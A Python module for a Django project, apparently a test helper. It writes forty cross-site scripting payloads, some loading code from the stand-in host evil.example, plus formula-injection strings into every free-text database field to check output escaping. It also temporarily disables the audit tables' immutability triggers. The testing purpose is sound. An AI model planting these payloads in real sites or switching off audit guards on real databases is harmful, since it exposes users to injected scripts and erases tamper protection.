"""Forty texts that run a script wherever a page forgets to escape them, and the database filled with them.

Each calls `hit`, tells the console `HIT`, or asks for a file of a host that doesn't exist.
"""

from contextlib import contextmanager
from itertools import count

from django.apps import apps
from django.db import connection, models

ROOMS = ("accounts", "places", "instruments", "assessments", "profiles", "audit")
PAYLOADS = (
    "<script>hit(1)</script>",
    "</script><script>hit(2)</script>",
    '"><script>hit(3)</script>',
    "'><script>hit(4)</script>",
    "</title><script>hit(5)</script>",
    "</textarea><script>hit(6)</script>",
    "</style><script>hit(7)</script>",
    "--><script>hit(8)</script>",
    "]]><script>hit(9)</script>",
    "<ScRiPt >hit(10)</ScRiPt>",
    "<script src=//evil.example/11.js></script>",
    "<script\n>hit(12)</script\n>",
    "<<script>hit(13)//<</script>",
    "<img src=x onerror=hit(14)>",
    "<img src=`x` onerror=hit(15)>",
    '"><img src=x onerror=hit(16)>',
    "<svg onload=hit(17)>",
    "<svg><script>hit(18)</script></svg>",
    "<svg><animate onbegin=hit(19) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit(20)>",
    "<body onload=hit(21)>",
    "<iframe srcdoc='<script>parent.hit(22)</script>'></iframe>",
    "<iframe src=javascript:hit(23)></iframe>",
    "<object data=javascript:hit(24)></object>",
    "<embed src=//evil.example/25.svg>",
    "<link rel=stylesheet href=//evil.example/26.css>",
    "<style>@import '//evil.example/27.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(28)'>",
    "<base href=//evil.example/29/>",
    "<details open ontoggle=hit(30)>",
    "<input autofocus onfocus=hit(31)>",
    "<select autofocus onfocus=hit(32)>",
    "<video><source onerror=hit(33)></video>",
    "<marquee onstart=hit(34)>",
    '" autofocus onfocus=hit(35) x="',
    "' autofocus onfocus=hit(36) x='",
    "javascript:hit(37)",
    "<a href=javascript:hit(38) autofocus onfocus=hit(38)>x</a>",
    "{{ 7|add:'39' }}{% debug %}${hit(39)}<%= hit(39) %>",
    "\u202e<img src=x onerror=hit(40)>\u2028<script>hit(40)</script>",
)
FORMULAS = ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1")

MADE_BY_THE_SITE = {
    "password", "email", "slug", "iso_code", "version", "digest", "colour", "colour_dark", "key", "value", "code",
    "language", "working_language", "url", "stored", "sha256", "media_type", "pdf_sha256", "matter", "source",
    "target", "reference",
}  # fmt: skip
STEPS = {"instruments", "assessments", "profiles"}


def free_texts(model):
    """The fields into which people type what they like."""
    event = model._meta.model_name.endswith("event")
    return [
        field.name
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in MADE_BY_THE_SITE
        and not (event and field.name == "name")
    ]


def poison(texts=PAYLOADS):
    """Put these texts into every free text of every row, one after the other; returns how many were put."""
    numbers = count()
    with _history_that_may_change():
        for room in ROOMS:
            for model in apps.get_app_config(room).get_models():
                fields = free_texts(model)
                rows = list(model._base_manager.order_by("pk")) if fields else []
                for row in rows:
                    for name in fields:
                        setattr(row, name, _text(model._meta.get_field(name), texts, next(numbers)))
                if rows:
                    model._base_manager.bulk_update(rows, fields, batch_size=50)
    return next(numbers)


def _text(field, texts, number):
    """One of them in a short field; in a long one all of them, beginning with another one each time."""
    if field.max_length:
        fitting = [text for text in texts if len(text) <= field.max_length]
        return fitting[number % len(fitting)]
    start = number % len(texts)
    return "\n".join((*texts[start:], *texts[:start]))


@contextmanager
def _history_that_may_change():
    """The database refuses changes of history; meanwhile it takes what nobody would have let in."""
    away, back = _statements()
    with connection.cursor() as cursor:
        for statement in away:
            cursor.execute(statement)
        yield
        for statement in back:
            cursor.execute(statement)


def _statements():
    """What takes the guards of history away, and what puts them back."""
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute(
                "SELECT name, sql FROM sqlite_master WHERE type = 'trigger' AND name LIKE '%_immutable'"
            )
            guards = cursor.fetchall()
            return [f'DROP TRIGGER "{name}"' for name, _made in guards], [made for _name, made in guards]
        cursor.execute(
            "SELECT DISTINCT c.relname FROM pg_trigger t JOIN pg_class c ON c.oid = t.tgrelid"
            " WHERE t.tgname = c.relname || '_immutable'"
        )
        names = [name for (name,) in cursor.fetchall()]
    now, later = (
        "SET CONSTRAINTS ALL IMMEDIATE",
        "SET CONSTRAINTS ALL DEFERRED",
    )  # none may wait for an altered table
    turned = {
        how: [now, *(f'ALTER TABLE "{name}" {how} TRIGGER "{name}_immutable"' for name in names), later]
        for how in ("DISABLE", "ENABLE")
    }
    return turned["DISABLE"], turned["ENABLE"]
